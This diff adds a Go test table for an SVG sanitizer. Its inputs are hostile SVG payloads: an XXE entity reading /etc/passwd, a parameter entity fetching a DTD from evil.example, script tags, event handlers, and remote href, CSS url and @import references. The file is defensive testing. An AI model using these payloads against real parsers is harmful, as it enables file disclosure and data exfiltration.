@@ -0,0 +1,118 @@
+package svg
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestSanitize(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		// reason is part of the expected rejection, empty when accepted
+		reason string
+		// absent must not be left in the sanitized content
+		absent string
+	}{
+		{
+			name:    "plain template",
+			content: `<svg xmlns="http://www.w3.org/2000/svg"><rect fill="#282828"/></svg>`,
+		},
+		{
+			name:    "internal entity",
+			content: `<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>`,
+			reason:  "entity declaration",
+		},
+		{
+			name:    "external entity",
+			content: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
+			reason:  "external entity declaration",
+		},
+		{
+			name:    "parameter entity",
+			content: `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p.dtd">%p;]><svg/>`,
+			reason:  "external entity declaration",
+		},
+		{
+			name:    "script element",
+			content: `<svg><script>alert(1)</script><rect/></svg>`,
+			absent:  "alert",
+		},
+		{
+			name:    "self-closing script",
+			content: `<svg><script href="x.js"/><rect/></svg>`,
+			absent:  "<script",
+		},
+		{
+			name:    "event handler",
+			content: `<svg onload="alert(1)"><rect onclick='x()'/></svg>`,
+			absent:  "alert",
+		},
+		{
+			name:    "remote href",
+			content: `<svg><image href="https://evil.example/x.png"/></svg>`,
+			reason:  "remote reference https://evil.example/x.png",
+		},
+		{
+			name:    "remote xlink:href",
+			content: `<svg><use xlink:href='http://evil.example/s.svg#a'/></svg>`,
+			reason:  "remote reference http://evil.example/s.svg#a",
+		},
+		{
+			name:    "protocol-relative href",
+			content: `<svg><image href="//evil.example/x.png"/></svg>`,
+			reason:  "remote reference //evil.example/x.png",
+		},
+		{
+			name:    "local and data references",
+			content: `<svg><use href="#shape"/><image href="data:image/png;base64,AAAA"/></svg>`,
+		},
+		{
+			name:    "remote css url",
+			content: `<svg><style>rect { fill: url("https://evil.example/f.svg#g") }</style></svg>`,
+			reason:  "remote stylesheet url https://evil.example/f.svg#g",
+		},
+		{
+			name:    "css url in an attribute",
+			content: `<svg><rect style="fill:url(ftp://evil.example/p)"/></svg>`,
+			reason:  "remote stylesheet url ftp://evil.example/p",
+		},
+		{
+			name:    "local css url",
+			content: `<svg><rect fill="url(#gradient)"/></svg>`,
+		},
+		{
+			name:    "css import",
+			content: `<svg><style>@import "https://evil.example/a.css";</style></svg>`,
+			reason:  "stylesheet @import",
+		},
+		{
+			name:    "element bomb",
+			content: "<svg>" + strings.Repeat("<g/>", MaxElements) + "</svg>",
+			reason:  "more than",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Sanitize(tt.content)
+			if tt.reason != "" {
+				var unsafe *UnsafeError
+				if !errors.As(err, &unsafe) {
+					t.Fatalf("Sanitize() error = %v, want an *UnsafeError", err)
+				}
+				if !strings.Contains(err.Error(), tt.reason) {
+					t.Errorf("Sanitize() error = %v, want %q", err, tt.reason)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Sanitize() error = %v", err)
+			}
+			if tt.absent != "" && strings.Contains(got, tt.absent) {
+				t.Errorf("Sanitize() = %s, still contains %q", got, tt.absent)
+			}
+		})
+	}
+}